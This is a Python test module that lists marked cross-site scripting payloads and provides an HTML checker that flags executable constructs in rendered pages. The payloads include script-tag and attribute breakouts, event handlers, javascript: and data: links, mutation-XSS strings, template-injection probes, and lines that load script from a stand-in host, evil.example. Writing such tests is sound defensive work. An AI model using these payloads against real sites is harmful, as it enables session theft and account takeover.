"""Cross-site scripting payloads, and a checker that tells whether one became executable.

Each payload carries a unique marker (`xss001`, `xss002`, ...) so that a test can tell where it
went: into which page, field and attribute. A marker is one word (letters and digits), so it
survives slugify() and is one term for both search backends.

The checker parses HTML the way a browser's tokenizer reads it (Python's html.parser) and
reports every construct that could run script: script elements other than JSON data, event
handler attributes, script-bearing addresses, and elements that embed other documents or
switch parsing modes (iframe, object, svg, math, base, refresh...). The site's own markup uses
none of them on public pages (the tests check this on a page with harmless content), so on a
public page anything found is a hole. The admin loads Django's own scripts (from /static/ and
/admin/jsi18n/) and draws icons in inline SVG: those are trusted for admin pages, unless an
author's marker is found in them.
"""

import html
import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser

MARKER_PATTERN = re.compile(r"xss\d{3}")


@dataclass(frozen=True)
class Payload:
    marker: str
    text: str
    # "markup": runs when written into a page unescaped; "address": runs as a link's address;
    # "markdown": asks a Markdown renderer for an unsafe link; "inert": harmless unless
    # something evaluates or decodes it (template syntax, entities, look-alikes).
    kind: str

    def __str__(self):
        return self.marker


# "MARK" is replaced by the payload's marker. Every payload is at most 100 characters, the
# shortest limit of the fields it is stored in (an issue's name).
_MARKUP = [
    # Script elements, in every spelling a tokenizer might miss.
    "<script>alert('MARK')</script>",
    "<SCRIPT>alert('MARK')</SCRIPT>",
    "<ScRiPt src=//evil.example/MARK.js></sCrIpT>",
    "<script type=text/javascript>alert('MARK')</script>",
    "<script/src=//evil.example/MARK.js></script>",
    "<script>alert('MARK')",
    "<scr<script>ipt>alert('MARK')</scr</script>ipt>",
    "<![CDATA[<script>alert('MARK')</script>]]>",
    "]]><script>alert('MARK')</script><![CDATA[",
    # Breaking out of the page's own contexts: JSON-LD, attributes, RCDATA and raw text.
    "</script><script>alert('MARK')</script>",
    "<!--<script>alert('MARK')</script>-->",
    "\"}]</script><script>alert('MARK')</script>",
    '<script type="application/ld+json">{"MARK":1}</script><script>alert(1)</script>',
    "\" onmouseover=\"alert('MARK')",
    "' onfocus='alert(`MARK`)' autofocus='",
    "'><script>alert('MARK')</script>",
    "\"><img src=x onerror=alert('MARK')>",
    "</textarea><script>alert('MARK')</script>",
    "</title><script>alert('MARK')</script>",
    "</style><script>alert('MARK')</script>",
    "</noscript><script>alert('MARK')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    "--><script>alert('MARK')</script><!--",
    "\u202e<script>alert('MARK')</script>",
    "\ue000<script>alert('MARK')</script>\ue001",
    # Event handlers.
    "<img src=x onerror=alert('MARK')>",
    "<img src=x onerror=alert('MARK')//",
    "<IMG SRC=x OnErRoR=alert('MARK')>",
    "<img/src=x/onerror=alert('MARK')>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('MARK')>",
    "<body onload=alert('MARK')>",
    "<div onmouseover=\"alert('MARK')\">hover MARK</div>",
    '<a onclick="alert(\'MARK\')" href="#">click MARK</a>',
    "<input autofocus onfocus=alert('MARK')>",
    "<details open ontoggle=alert('MARK')>",
    "<video><source onerror=alert('MARK')></video>",
    "<marquee onstart=alert('MARK')>MARK</marquee>",
    # Script-bearing addresses inside HTML.
    "<a href=\"javascript:alert('MARK')\">click</a>",
    "<a href=\"  JAVASCRIPT:alert('MARK')\">click</a>",
    "<a href=\"java&#x0A;script:alert('MARK')\">click</a>",
    "<a href=\"data:text/html,<script>alert('MARK')</script>\">x</a>",
    "<a href=\"vbscript:msgbox('MARK')\">x</a>",
    # Elements that embed documents, switch the parser's namespace or change the page.
    "<svg onload=alert('MARK')>",
    "<svg><script>alert('MARK')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('MARK')\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')>",
    "<math href=\"javascript:alert('MARK')\">x</math>",
    "<iframe src=\"javascript:alert('MARK')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('MARK')</script>\"></iframe>",
    "<object data=\"javascript:alert('MARK')\"></object>",
    "<embed src=\"data:text/html,<script>alert('MARK')</script>\">",
    "<style>@import 'https://evil.example/MARK.css';</style>",
    "<div style=\"background:url(javascript:alert('MARK'))\">x</div>",
    '<base href="https://evil.example/MARK/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'MARK\')">',
    "<form action=\"javascript:alert('MARK')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('MARK')\">go</button>",
    "<link rel=stylesheet href=\"javascript:alert('MARK')\">",
]
# Bare addresses, as a related link's address (or a Markdown link's) would carry them.
_ADDRESSES = [
    "javascript:alert('MARK')",
    "JaVaScRiPt:alert('MARK')",
    "java\tscript:alert('MARK')",
    "\x01javascript:alert('MARK')",
    " javascript:alert('MARK')",
    "&#106;avascript:alert('MARK')",
    "&#x6A;&#x61;vascript:alert('MARK')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK",
    "data:text/html,<script>alert('MARK')</script>",
    'vbscript:msgbox("MARK")',
]
_MARKDOWN = [
    "[MARK](javascript:alert(1))",
    "[MARK](JAVASCRIPT:alert(1))",
    "[MARK](java%09script:alert(1))",
    "[MARK](javascript&colon;alert(1))",
    "[MARK](<javascript:alert(1)>)",
    "[MARK](vbscript:msgbox(1))",
    "[MARK](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![MARK](javascript:alert(1))",
    "![MARK](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert('MARK')>",
    "[MARK][ref]\n\n[ref]: javascript:alert(1)",
    '[MARK](https://example.org/ "a" onmouseover="alert(1)")',
]
_INERT = [
    # Encoded and look-alike forms, which must stay the text they are.
    "&lt;script&gt;alert('MARK')&lt;/script&gt;",
    "%3Cscript%3Ealert('MARK')%3C/script%3E",
    "\\u003c/script\\u003e\\u003cscript\\u003ealert('MARK')\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert('MARK')\uff1c/script\uff1e",
    # NUL inside a tag: a browser reads it as U+FFFD, so no script element, but a filter
    # that drops NUL would make one.
    "<scr\x00ipt>alert('MARK')</scr\x00ipt>",
    "<script\x00>alert('MARK')</script>",
    "<p onclick\x00=alert('MARK')>x</p>",
    # Template syntax: shown as written, never evaluated.
    "{{ request.user }} MARK",
    "{% debug %} MARK",
    "{{ settings.SECRET_KEY }} MARK",
    "{% csrf_token %}{{ request.META }} MARK",
    "{{ constructor.constructor('alert(1)')() }} MARK",
    "${alert('MARK')}",
]


def _corpus():
    groups = [("markup", _MARKUP), ("address", _ADDRESSES), ("markdown", _MARKDOWN)]
    groups.append(("inert", _INERT))
    raw = [(kind, text) for kind, texts in groups for text in texts]
    return [
        Payload(marker=f"xss{number:03d}", text=text.replace("MARK", f"xss{number:03d}"), kind=kind)
        for number, (kind, text) in enumerate(raw, start=1)
    ]


PAYLOADS = _corpus()

# Template syntax payloads: their text must be shown as written, never evaluated.
TEMPLATE_SYNTAX = [payload for payload in PAYLOADS if "{{" in payload.text or "{%" in payload.text]


# The checker


# Attributes whose value is an address a browser may load or navigate to.
URL_ATTRIBUTES = {
    "action", "background", "cite", "codebase", "data", "dynsrc", "formaction", "href",
    "icon", "lowsrc", "manifest", "ping", "poster", "src", "xlink:href",
}  # fmt: skip
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
# Elements that run, embed or redirect to other content, or make the parser read what
# follows as SVG or MathML, where sanitising HTML rules no longer hold. None is in our
# templates.
FORBIDDEN_ELEMENTS = {
    "applet", "base", "embed", "frame", "frameset", "iframe", "math", "object", "portal", "svg",
}  # fmt: skip
JSON_SCRIPT_TYPES = {"application/ld+json", "application/json"}
RAW_TEXT_ELEMENTS = {"iframe", "noembed", "noframes", "noscript", "xmp"}


def normalized_address(value):
    """An attribute's address as a browser reads its scheme: entities decoded (html.parser
    has done it once), ASCII whitespace and control characters dropped, lower case."""
    value = html.unescape(value or "")
    return "".join(char for char in value if ord(char) > 0x20 and ord(char) != 0x7F).lower()


class _SafetyParser(HTMLParser):
    def __init__(self, trusted_scripts, trusted_elements):
        super().__init__(convert_charrefs=True)
        self.trusted_scripts = trusted_scripts
        self.trusted_elements = trusted_elements
        self.problems = []
        self.in_body = False
        self._script = None  # (attrs, [text]) while inside a script element

    def problem(self, description):
        self.problems.append(description)

    def handle_starttag(self, tag, attrs):
        self._check_element(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check_element(tag, attrs)
        if tag == "script":  # <script/> does not close a script element: the same rules
            self.handle_endtag("script")

    def _check_element(self, tag, attrs):
        attributes = dict(attrs)

        def described():
            return f"<{tag} {' '.join(f'{k}={v!r}' for k, v in attrs)}>"

        if tag == "body":
            self.in_body = True
        if tag in FORBIDDEN_ELEMENTS and (
            tag not in self.trusted_elements or MARKER_PATTERN.search(described())
        ):
            self.problem(f"forbidden element {described()}")
        if tag in {"style", "link"} and self.in_body:
            self.problem(f"{tag} element in the body {described()}")
        if tag == "meta" and (attributes.get("http-equiv") or "").strip().lower() == "refresh":
            self.problem(f"refresh {described()}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problem(f"event handler {name} in {described()}")
            elif name == "srcdoc":
                self.problem(f"embedded document in {described()}")
            elif _is_script_address(name, value):
                self.problem(f"script address in {name} of {described()}")
            elif name == "style" and _style_can_load(value):
                self.problem(f"style attribute that loads or runs something in {described()}")
        if tag == "script":
            self._script = (attributes, [])
        elif tag in RAW_TEXT_ELEMENTS:
            # As a browser with scripting on reads them: text up to the closing tag, so that
            # a "</noscript>" inside an attribute ends the element there, as it would.
            self.set_cdata_mode(tag)

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            attributes, text = self._script
            self._script = None
            self._check_script(attributes, "".join(text))

    def close(self):
        super().close()
        if self._script is not None:  # a script element the page never closed
            attributes, text = self._script
            self._script = None
            self._check_script(attributes, "".join(text), unclosed=True)

    def _check_script(self, attributes, text, unclosed=False):
        described = f"<script {attributes}>{text[:80]!r}"
        if unclosed:
            self.problem(f"unclosed script element {described}")
            return
        if MARKER_PATTERN.search(" ".join(str(v) for v in attributes.values())):
            self.problem(f"script element with an author's marker in its attributes {described}")
            return
        kind = (attributes.get("type") or "").strip().lower()
        if kind in JSON_SCRIPT_TYPES and "src" not in attributes:
            if "<" in text:
                self.problem(f"'<' inside a JSON script, which could close it {described}")
            try:
                json.loads(text)
            except ValueError:
                self.problem(f"a JSON script that is not JSON {described}")
            return
        source = attributes.get("src")
        if source and source.startswith(self.trusted_scripts) and not text.strip():
            return  # the site's own script file (Django's admin)
        self.problem(f"executable script {described}")


def _is_script_address(name, value):
    if name in URL_ATTRIBUTES:
        return normalized_address(value).startswith(SCRIPT_SCHEMES)
    if name in {"srcset", "imagesrcset"}:
        candidates = (value or "").split(",")
        return any(normalized_address(c).startswith(SCRIPT_SCHEMES) for c in candidates)
    return False


def _style_can_load(value):
    style = normalized_address(value)
    return any(part in style for part in ("url(", "expression(", "javascript:", "@import"))


def unsafe_parts(markup, trusted_scripts=(), trusted_elements=()):
    """What in this HTML could run script, described; [] for a safe page.

    `trusted_scripts`: address prefixes of the site's own script files; `trusted_elements`:
    otherwise forbidden elements the site's own markup uses (Django's admin draws its icons
    in inline SVG), allowed when no author's marker is in them."""
    if isinstance(markup, bytes):
        markup = markup.decode()
    parser = _SafetyParser(tuple(trusted_scripts), set(trusted_elements))
    parser.feed(markup)
    parser.close()
    return parser.problems
